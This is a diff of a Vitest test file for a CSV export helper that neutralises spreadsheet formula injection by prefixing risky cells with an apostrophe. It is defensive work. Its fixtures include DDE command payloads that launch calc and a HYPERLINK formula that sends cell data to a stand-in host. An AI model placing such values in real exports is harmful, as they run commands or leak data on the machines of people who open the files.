@@ -3,19 +3,43 @@ import { expect, test } from 'vitest';
 import { csvCell, csvLine } from './csv.ts';
 
 test.each([
-  '=1+1',
-  '+49 30 1234',
-  '-2',
-  '@SUM(A1)',
-  '\t=1',
-  '\r=1',
-  '\n=1',
-  ' =cmd|calc',
-  '＝1',
-  '=HYPERLINK("http://x.example?"&A1)',
-])('%j is no formula any more', (text) => {
-  const [[cell]] = Papa.parse<[string]>(csvCell(text)).data as [[string]];
-  expect(cell).toBe(`'${text}`);
+  ['=1+1', "'=1+1"],
+  ['+49 30 1234', "'+49 30 1234"],
+  ['-2', "'-2"],
+  ['@SUM(A1)', "'@SUM(A1)"],
+  ['\t=1', "'\t'=1"],
+  ['\r\n=1', "'\r\n'=1"],
+  ['\tplain', "'\tplain"],
+  [' =cmd|calc', "' =cmd|calc"],
+  ['\xa0=1', "'\xa0=1"],
+  ['＝1', "'＝1"],
+  ['"=1"', `'"=1"`],
+  ['=HYPERLINK("http://x.example?"&A1)', `'=HYPERLINK("http://x.example?"&A1)`],
+  ["x;=cmd|'/C calc'!A0;y", "x;'=cmd|'/C calc'!A0;y"],
+  ['x; "=1"', `x;' "=1"`],
+  ['Skills:\n- sewing', "Skills:\n'- sewing"],
+])('%j is no formula any more', (text, guarded) => {
+  expect(Papa.parse(csvCell(text)).data).toEqual([[guarded]]);
+});
+
+test('every cell is quoted', () => {
+  expect(csvLine(['plain', 7, null])).toBe('"plain","7",""\r\n');
+});
+
+test('no list separator of a spreadsheet makes a formula of what stands in a cell', () => {
+  const signs = ['=', ';', ',', '\t', '\n', '"', ' ', 'x'];
+  let texts = [''];
+  for (let length = 1; length <= 3; length += 1) {
+    texts = texts.flatMap((text) => signs.map((sign) => text + sign));
+    for (const text of texts) {
+      const line = csvLine(['x', text, 'y']);
+      for (const delimiter of [',', ';', '\t']) {
+        const cells = Papa.parse<string[]>(line, { delimiter }).data.flat();
+        const formulas = cells.filter((cell) => /^["\s]*=/.test(cell));
+        if (formulas.length > 0) expect.fail(`${JSON.stringify({ text, delimiter })}: ${formulas}`);
+      }
+    }
+  }
 });
 
 test.each([
